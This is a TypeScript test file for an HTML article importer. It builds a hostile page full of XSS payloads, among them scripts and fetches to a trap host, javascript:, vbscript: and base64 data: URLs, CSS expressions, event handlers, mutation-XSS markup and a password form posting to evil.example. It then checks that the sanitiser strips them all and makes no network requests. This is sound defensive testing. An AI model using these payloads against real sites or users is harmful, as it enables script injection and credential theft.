/**
 * A web page written to attack the reader: scripts, event handlers, javascript: and data: URLs,
 * CSS expressions, meta refresh, a lying <base href>, frames, forms, mutation-XSS shapes. The stored
 * article must hold none of it, links must point where the real page address says, and importing
 * must not make a single network request.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { JSDOM, VirtualConsole } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseHtmlArticle } from '../../../../src-main/core/ingest/html';

const REAL_URL = 'https://news.example/2024/05/harbour-story.html';

/** Real prose, so that Readability has an article to find among the traps. */
const PROSE = [
  'The harbour authority confirmed on Tuesday that the old breakwater, built in 1887, will be rebuilt over the next three years, at a cost the council has not yet disclosed.',
  'Fishermen, who have used the inner basin for generations, said they welcomed the work but worried about losing their moorings during the winter season, when storms are frequent.',
  'Engineers from the regional office said the new structure would be taller, wider and built of precast concrete blocks, each weighing about forty tonnes, placed by a floating crane.',
  'Residents will be able to comment on the plans at a public meeting next month, and the full report, with drawings and a timetable, will be published on the council website.',
];

function hostilePage(trapHost: string): string {
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://evil.example/phish">
<base href="https://evil.example/trap/">
<title>Harbour breakwater to be rebuilt</title>
<link rel="stylesheet" href="http://${trapHost}/style.css">
<script src="http://${trapHost}/script.js"></script>
<script>document.title = 'pwned'; fetch('http://${trapHost}/inline-script');</script>
<style>p { background: url(http://${trapHost}/bg.png); width: expression(alert('css')); }</style>
</head>
<body onload="alert('body')">
<nav><a href="/">Home</a> <a href="javascript:alert('nav')">Menu</a></nav>
<article>
<h1>Harbour breakwater to be rebuilt</h1>
<p>${PROSE[0]} Read <a href="/about/harbour">our harbour guide</a> or the <a href="reports/breakwater.pdf">engineers' report</a>.</p>
<p onclick="alert('click')" style="background-image: url(javascript:alert('style')); width: expression(alert('expr'))">${PROSE[1]}</p>
<img src="missing.png" onerror="alert('onerror')" alt="broken on purpose">
<figure><img src="images/breakwater.jpg" alt="The breakwater at dawn"><figcaption>The breakwater at dawn.</figcaption></figure>
<img src="http://${trapHost}/tracker.gif" alt="">
<svg onload="alert('svg')" width="10" height="10"><circle r="5"></circle><a xlink:href="javascript:alert('xlink')"><text>svg link</text></a></svg>
<p>${PROSE[2]} See <a href="javascript:alert('link')">this link</a>, <a href=" jav&#x09;ascript:alert('tab')">that one</a>,
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+">a data link</a> and
<a href="vbscript:msgbox('vb')">an old one</a>.</p>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" alt="data image">
<iframe src="http://${trapHost}/frame.html" width="600" height="400"></iframe>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>
<form action="https://evil.example/steal" method="post">
  <input type="password" name="password" placeholder="Your password">
  <button formaction="javascript:alert('form')">Log in</button>
</form>
<object data="http://${trapHost}/movie.swf"></object>
<embed src="http://${trapHost}/movie.swf">
<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<p>${PROSE[3]}</p>
<video src="http://${trapHost}/clip.mp4" poster="javascript:alert('poster')"><source src="x" onerror="alert('source')"></video>
</article>
</body>
</html>`;
}

/** A server standing in for every remote host the page names; it counts what it is asked for. */
let server: Server;
let requests: string[] = [];
let trapHost = '';

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    response.end('');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  trapHost = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

function parseStored(contentHtml: string): Document {
  return new JSDOM(`<!DOCTYPE html><body>${contentHtml}</body>`, {
    virtualConsole: new VirtualConsole(),
  }).window.document;
}

/** Every element and attribute in stored content that could run code, load or post anything. */
function dangers(contentHtml: string): string[] {
  const body = parseStored(contentHtml).body;
  const found: string[] = [];
  const forbiddenTags = [
    'script',
    'style',
    'link',
    'meta',
    'base',
    'iframe',
    'frame',
    'object',
    'embed',
    'form',
    'input',
    'button',
    'svg',
    'math',
    'video',
    'audio',
    'noscript',
    'template',
  ];
  for (const tag of forbiddenTags) {
    if (body.getElementsByTagName(tag).length > 0) found.push(`<${tag}>`);
  }
  for (const element of Array.from(body.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      // Browsers strip tabs and newlines from URLs before reading the scheme.
      const value = Array.from(attribute.value)
        .filter((char) => char.charCodeAt(0) > 0x20)
        .join('')
        .toLowerCase();
      if (attribute.name.startsWith('on')) found.push(`${attribute.name}=`);
      if (attribute.name === 'style') found.push('style=');
      if (['formaction', 'action', 'srcdoc', 'poster', 'xlink:href'].includes(attribute.name)) {
        found.push(`${attribute.name}=`);
      }
      if (/^(javascript|vbscript|data):/.test(value)) found.push(`${attribute.name}=${value}`);
    }
  }
  if (/expression\s*\(/i.test(contentHtml)) found.push('CSS expression');
  return found;
}

describe('hostile web page', () => {
  it('stores none of the attacks and keeps the article', async () => {
    requests = [];
    const article = parseHtmlArticle(Buffer.from(hostilePage(trapHost), 'utf8'), {
      url: REAL_URL,
      fileName: 'harbour.html',
    });

    expect(dangers(article.contentHtml)).toEqual([]);
    for (const sentence of PROSE) expect(article.textContent).toContain(sentence);
    // The script that rewrote the title never ran.
    expect(article.title).toBe('Harbour breakwater to be rebuilt');
    expect(article.textContent).not.toMatch(/alert\(/);

    // jsdom was told to load nothing: give any stray request time to arrive, then count.
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(requests).toEqual([]);
  });

  it('resolves relative links against the real address, not the page <base>', () => {
    const article = parseHtmlArticle(Buffer.from(hostilePage(trapHost), 'utf8'), {
      url: REAL_URL,
    });
    const document = parseStored(article.contentHtml);
    const hrefs = Array.from(document.querySelectorAll('a[href]')).map((a) =>
      a.getAttribute('href'),
    );
    const sources = Array.from(document.querySelectorAll('img[src]')).map((img) =>
      img.getAttribute('src'),
    );

    expect(hrefs).toContain('https://news.example/about/harbour');
    expect(hrefs).toContain('https://news.example/2024/05/reports/breakwater.pdf');
    expect(sources).toContain('https://news.example/2024/05/images/breakwater.jpg');
    expect(article.contentHtml).not.toContain('evil.example');
    expect(article.url).toBe(REAL_URL);
    // Links that leave the app cannot reach back to it.
    for (const link of Array.from(document.querySelectorAll('a[href]'))) {
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('without a given address, uses the canonical link and still ignores <base>', () => {
    const page = hostilePage(trapHost).replace(
      '<title>',
      '<link rel="canonical" href="https://news.example/canonical/harbour"><title>',
    );
    const article = parseHtmlArticle(Buffer.from(page, 'utf8'), { fileName: 'harbour.html' });
    const hrefs = Array.from(parseStored(article.contentHtml).querySelectorAll('a[href]')).map(
      (a) => a.getAttribute('href'),
    );

    expect(article.url).toBe('https://news.example/canonical/harbour');
    expect(hrefs).toContain('https://news.example/about/harbour');
    expect(hrefs).toContain('https://news.example/canonical/reports/breakwater.pdf');
    expect(article.contentHtml).not.toContain('evil.example');
  });

  it('refuses a canonical or og:url that is not a web address', () => {
    const page = hostilePage(trapHost).replace(
      '<title>',
      '<link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="file:///etc/passwd"><title>',
    );
    const article = parseHtmlArticle(Buffer.from(page, 'utf8'), {});

    expect(article.url).toBeNull();
    // With no trustworthy address, relative links cannot be resolved, so none are stored.
    expect(article.contentHtml).not.toContain('evil.example');
    expect(dangers(article.contentHtml)).toEqual([]);
  });

  it('never follows a lead image that is not a web address', () => {
    const page = hostilePage(trapHost).replace(
      '<title>',
      '<meta property="og:image" content="javascript:alert(1)"><title>',
    );
    expect(parseHtmlArticle(Buffer.from(page, 'utf8'), { url: REAL_URL }).leadImageUrl).toBeNull();
  });
});
